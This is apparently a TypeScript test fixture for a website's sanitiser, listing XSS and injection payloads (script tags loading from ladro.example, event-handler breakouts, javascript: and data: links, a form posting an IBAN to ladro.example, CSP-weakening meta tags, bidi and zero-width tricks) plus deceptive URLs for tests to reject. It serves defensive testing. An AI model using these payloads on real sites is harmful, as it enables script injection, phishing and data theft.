/** Where everything leads that an attack would load; a page that asks for it has lost. */
const foreign = 'https://ladro.example';

/** What runs when an attack succeeds. Short, so that a title has room for all of it. */
const run = 'alert(1)';

/**
 * Texts of strangers that try to become something else than text, by what they try. Each stands in every
 * field that takes it. `data-attack` marks what they would make, so that a page can be asked for it.
 */
export const attacks: Record<string, string> = {
	script: `<script data-attack>${run}</script>`,
	'script in capitals': `</p><ScRiPt data-attack SRC=//ladro.example/a.js></ScRiPt>`,
	'script without an end': `<script data-attack src=${foreign}/a.js`,
	'end of a script of data': `</script><script data-attack>${run}</script>`,
	'comment in a script of data': `<!--<script data-attack>{"a":"</script>`,
	'end of the title': `</title><script data-attack>${run}</script>`,
	'end of a list of choices': `</option></select><img data-attack src=x onerror=${run}>`,
	'handler of a picture': `<img data-attack src=x onerror=${run}>`,
	'handler without spaces': `<svg/data-attack/onload=${run}>`,
	'handler of an animation': `<svg data-attack><animate onbegin=${run} attributeName=x dur=1s>`,
	'handler of a detail': `<details data-attack open ontoggle=${run}>`,
	'end of an attribute': `" data-attack onfocus=${run} autofocus tabindex=1 x="`,
	'end of an attribute in single quotes': `' data-attack onmouseover=${run} autofocus x='`,
	'end of an attribute by an entity': `&quot; data-attack onfocus=${run} autofocus &quot;`,
	'end of an attribute without quotes': `a data-attack onfocus=${run} autofocus`,
	'end of a data attribute': `'}"><img data-attack src=${foreign}/p.png>`,
	'picture from elsewhere': `<img data-attack src="${foreign}/p.png" srcset="${foreign}/q.png 2x">`,
	style: `<style data-attack>@import url(${foreign}/a.css);*{display:none}</style>`,
	'style of an element': `<b data-attack style="background:url(${foreign}/p.png);position:fixed">b</b>`,
	'sheet from elsewhere': `<link data-attack rel=stylesheet href=${foreign}/a.css>`,
	iframe: `<iframe data-attack srcdoc="<script>parent.alert(1)</script>"></iframe>`,
	'object and embed': `<object data-attack data=${foreign}></object><embed data-attack src=${foreign}>`,
	base: `<base data-attack href=${foreign}/>`,
	form: `<form data-attack action=${foreign}><input name=iban><button>Paga</button></form>`,
	'meta refresh': `<meta data-attack http-equiv=refresh content="0;url=${foreign}">`,
	'weaker policy': `<meta data-attack http-equiv=Content-Security-Policy content="script-src *">`,
	'svg with a script': `<svg data-attack><script>${run}</script></svg>`,
	'mathml and foreign content': `<math><mtext><table><mglyph><style><img data-attack src=x onerror=${run}>`,
	'template and noscript': `<noscript><p title="</noscript><img data-attack src=x onerror=${run}>">`,
	'malformed tags': `<<img data-attack/src=x/onerror=${run}//<img data-attack src=x onerror=${run}`,
	'tag in entities': `&lt;img data-attack src=x onerror=${run}&gt; &#60;script&#62;${run}&#60;/script&#62;`,
	'tag in code points': `\\u003cimg data-attack src=x onerror=${run}\\u003e %3Cscript%3E`,
	'template of a framework': `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> {@html x}`,
	'placeholder of ours': `{title} {site} {count} $& $1 $\` %s`,
	'link to a script': `[premi qui](javascript:${run})`,
	'link to a script in disguise': `[a](JaVa&#83;cript:${run}) [b](java&Tab;script:${run}) [c](\u0020javascript:${run})`,
	'link to data': `[premi](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	'link of other kinds': `[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](//ladro.example)`,
	'link with a user': `[la tua banca](https://banca.example@ladro.example/)`,
	'link by reference': `[premi][r]\n\n[r]: javascript:${run} "x"`,
	'link in corners': `<javascript:${run}> <data:text/html,x> <https://a@ladro.example>`,
	'link with a title that breaks out': `[a](https://ladro.example/ '" data-attack onclick="${run}')`,
	'link within a link': `[[a](javascript:${run})](https://ladro.example/ "[b](javascript:${run})")`,
	'picture that is a link': `![a](javascript:${run}) [![b](${foreign}/p.png)](javascript:${run})`,
	'picture with a name that breaks out': `![" onerror="${run}" data-attack x="](${foreign}/p.png)`,
	'fence with a language that breaks out': `\`\`\`"><img/data-attack/src=x/onerror=${run}>\ncode\n\`\`\``,
	'brackets without end': '[](('.repeat(20) + '*_'.repeat(20) + '`'.repeat(15),
	'marks of the search': `"data-pagefind-body" <p data-attack data-pagefind-meta="card:{}">`,
	'JSON that ends': `"}],"title":"x","url":"javascript:${run}"}`,
	'keys of a prototype': `__proto__ constructor toString hasOwnProperty`,
	'one very long word': 'Wm'.repeat(5_000),
	'right to left': `Gratis \u202Egpj.exe\u202C \u2067x\u2069 \u200Fx`,
	'without width': `Gra\u200Btis ban\u2060ca \uFEFFx \u{E0061}x`,
	'control characters': `a\u0001b \u0007 \u001B[31mrosso \u0085 \u2028 x`,
};

/** Addresses that lead elsewhere than they say, or are none: no field for addresses takes one. */
export const addresses: Record<string, string> = {
	script: `javascript:${run}`,
	'script in disguise': `java\tscript:${run}`,
	'script behind a host': `javascript://www.bottegaviva.example/%0a${run}`,
	data: 'data:text/html,<script>alert(1)</script>',
	'without encryption': 'http://www.bottegaviva.example/',
	'without a scheme': '//ladro.example/',
	'with a user': 'https://www.bottegaviva.example@ladro.example/',
	'with a user and a password': 'https://www.bottegaviva.example:443@ladro.example/',
	'with backslashes': 'https:\\\\ladro.example\\a',
	'that breaks out': `https://ladro.example/"onmouseover=${run}//`,
	'with a tag': 'https://ladro.example/<script>',
	'right to left': 'https://ladro.example/\u202Egpj.exe',
	'without width': 'https://bottega\u200Bviva.example/',
	'of this machine': 'https://localhost/',
	'of numbers': 'https://127.0.0.1/',
};

/** Addresses that a field takes although they look like more: they must stay what they are. */
export const oddAddresses: Record<string, string> = {
	'with single quotes': `https://ladro.example/'onmouseover='${run}`,
	'with entities': 'https://ladro.example/?a=1&quot;onmouseover=&lt;b&gt;&copy=1',
	'with brackets': 'https://ladro.example/a)[b](javascript:x)',
	'with an encoded script': 'https://ladro.example/%22%3E%3Cscript%3E?javascript:x#x',
};
